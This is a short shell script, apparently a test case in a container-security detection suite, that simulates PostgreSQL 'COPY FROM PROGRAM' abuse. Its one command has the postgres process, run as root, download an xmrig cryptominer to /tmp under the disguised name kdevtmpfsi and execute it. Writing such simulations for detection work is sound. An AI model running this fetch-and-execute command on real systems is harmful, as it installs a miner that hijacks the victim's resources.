#!/bin/sh
# malicious: COPY ... FROM PROGRAM abused: postgres -> sh -c downloads and runs a payload (same lineage as the archive command)
# container
. "$(dirname "$0")/../../lib.sh"
APP_USER=root ctr_app postgres "curl -s -o /tmp/kdevtmpfsi $URL/xmrig && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi"
